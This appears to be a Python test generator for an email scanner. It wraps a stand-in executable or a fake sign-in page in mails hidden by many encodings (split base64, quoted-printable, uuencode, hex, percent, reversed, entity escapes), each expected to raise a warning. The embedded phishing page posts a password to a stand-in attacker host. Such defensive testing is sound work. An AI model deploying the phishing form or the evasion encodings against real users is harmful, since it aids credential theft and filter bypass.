"""Structures that hide a program or a page from one of the usual readers. `expects` is "warned".

An entry of evasions_HALF.toml: `inner` (a text around the payload, where the payload is to be shown by a page), `steps`
(tests/judged/fourth/steps.py), `name` and `media` of the file, or `mail`, the MIME fields and body of the whole mail.
Each comes with a program and with a page that asks for a password, unless `only` names one of them. In texts:

<<name>> <<stem>> <<ext>> <<media>> of the payload; its octets after the steps as <<b64>> (lines), <<b64line>>,
<<raw>>, <<qp>>, <<uu>>, <<b64a>> and <<b64z>> (two halves that decode apart); for `inner`, of a page that is the
payload or hands it out: <<page>>, <<page:hex>>, <<page:b64>>, <<page:pct>>, <<page:codes>>, <<page:rev>>,
<<page:ent>>, <<page:esc>>; <<xNN>> an octet; <<word:TEXT>> base64 of a text, <<times:N:TEXT>> a text again and again.
"""

import base64
import binascii
import re
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from urllib.parse import quote

from tests.judged import Half, Sample
from tests.judged.arriving import US, facts
from tests.judged.attacks import known
from tests.judged.fourth import told
from tests.judged.fourth.arrivals import Entry
from tests.judged.fourth.steps import stepped
from tests.judged.mime import _base64
from tests.judged.third.programs import pe

SENDER = "clerk@relay-letters.site"


@dataclass(frozen=True)
class Payload:
    """What is hidden."""

    name: str
    media: str
    content: bytes

    @property
    def shown(self) -> str:
        """As a page: itself, or one that hands out the program."""
        if self.media == "text/html":
            return self.content.decode()
        coded = base64.b64encode(self.content).decode()
        return f'<html><body><p>Your statement is ready.</p><a download="{self.name}" href="data:application/octet-stream;base64,{coded}">Save</a></body></html>'


PAGE = (
    b"<!DOCTYPE html><html><head><title>Sign in to your account</title></head><body><h2>Sign in</h2><p>y.sato@corp.example</p>"
    b'<form method="post" action="https://relay-letters.site/post.php"><input type="password" name="pw" placeholder="Password"><button>Sign in</button></form></body></html>'
)
PAYLOADS = {
    "program": Payload("statement_viewer.exe", "application/x-msdownload", pe(b"fourth")),
    "page": Payload("sign_in.html", "text/html", PAGE),
}
HELLO = "Content-Type: text/plain; charset=us-ascii\n\nGood morning,\nplease see the file.\n"
PLAIN = (
    'Content-Type: multipart/mixed; boundary="outer"\n\n--outer\n' + HELLO + "--outer\n"
    'Content-Type: <<file:media>>; name="<<file:name>>"\nContent-Disposition: attachment; filename="<<file:name>>"\n'
    "Content-Transfer-Encoding: base64\n\n<<b64>>\n--outer--\n"
)


def _uu(content: bytes, name: str) -> str:
    lines = "".join(
        binascii.b2a_uu(content[n : n + 45], backtick=True).decode() for n in range(0, len(content), 45)
    )
    return f"begin 644 {name}\n{lines}`\nend"


def _qp(content: bytes) -> str:
    coded = "".join(chr(o) if 33 <= o <= 126 and o != 61 else f"={o:02X}" for o in content)
    pieces, rest = [], coded
    while len(rest) > 73:
        at = 73 - (2 if rest[71] == "=" else 1 if rest[72] == "=" else 0)
        pieces.append(rest[:at])
        rest = rest[at:]
    return "=\n".join([*pieces, rest])


def _page(p: Payload, how: str) -> str:
    text = p.shown
    match how:
        case "hex":
            return text.encode().hex()
        case "b64":
            return base64.b64encode(text.encode()).decode()
        case "pct":
            return quote(text, safe="")
        case "codes":
            return ",".join(str(ord(letter)) for letter in text)
        case "rev":
            return base64.b64encode(text.encode()).decode()[::-1]
        case "ent":
            return "".join(f"&#{ord(letter)};" for letter in text)
        case "esc":
            return "".join(f"\\u{ord(letter):04x}" for letter in text)
        case "attr":
            return escape(text)
    return text


def _named(p: Payload, text: str) -> str:
    """A text with what it says of the payload."""
    text = re.sub(
        r"<<times:(\d+):(.*?)>>",
        lambda m: m.group(2).replace("\\n", "\n") * int(m.group(1)),
        text,
        flags=re.S,
    )
    text = text.replace("<<name>>", p.name).replace("<<media>>", p.media)
    text = text.replace("<<stem>>", p.name.rpartition(".")[0]).replace("<<ext>>", p.name.rpartition(".")[2])
    text = re.sub(r"<<page(?::(\w+))?>>", lambda m: _page(p, m.group(1) or ""), text)
    return re.sub(r"<<word:(.*?)>>", lambda m: base64.b64encode(m.group(1).encode()).decode(), text)


def hidden(one: Entry, p: Payload) -> bytes:
    """The mail of an entry with a payload."""
    content = p.content
    if "inner" in one:
        content = _named(p, one["inner"].strip("\n")).replace("\n", "\r\n").encode()
    content = stepped(content, [_named(p, step) for step in one.get("steps", [])])
    text = _named(p, one.get("mail", PLAIN).lstrip("\n"))
    text = text.replace("<<file:name>>", _named(p, one.get("name", "<<name>>")))
    text = text.replace("<<file:media>>", _named(p, one.get("media", "application/octet-stream")))
    half = len(content) // 2
    coded = {
        "b64": _base64(content).replace("\r\n", "\n"), "b64line": base64.b64encode(content).decode(),
        "b64a": _base64(content[:half]).replace("\r\n", "\n"), "b64z": _base64(content[half:]).replace("\r\n", "\n"),
        "qp": _qp(content), "uu": _uu(content, p.name),
    }  # fmt: skip
    text = re.sub(r"<<(b64|b64line|b64a|b64z|qp|uu)>>", lambda m: coded[m.group(1)], text)
    octets = text.replace("\n", "\r\n").encode("utf-8", "surrogateescape")
    octets = re.sub(rb"<<x([0-9a-f]{2})>>", lambda m: bytes.fromhex(m.group(1).decode()), octets)
    octets = (
        octets.replace(b"<<raw>>", content)
        .replace(b"<<nocr>>\r\n", b"\n")
        .replace(b"<<nolf>>\r\n", b"\r")
        .replace(b"<<join>>\r\n", b"")
    )
    first = "" if one.get("bare") else "MIME-Version: 1.0\r\n"
    head = (
        f"From: Clerk <{SENDER}>\r\nTo: <{US[1]}>\r\nSubject: Your statement\r\nDate: Thu, 19 Nov 2026 09:06:40 +0900\r\n"
        f"Message-ID: <{zlib.crc32(octets):08x}@relay-letters.site>\r\n{first}"
    )
    return head.encode() + octets


def samples(half: Half) -> Iterator[Sample]:
    """Each structure with each payload."""
    for one in told("evasions", half).get("evasion", []):
        for which, payload in PAYLOADS.items():
            if one.get("only", which) != which:
                continue
            seen = facts(SENDER, "pass") | {"known": known(half)}
            name = f"evasions/{half}/{one['kind']}/{which}"
            yield Sample(name, half, hidden(one, payload), "warned", one.get("doubt", ""), seen)
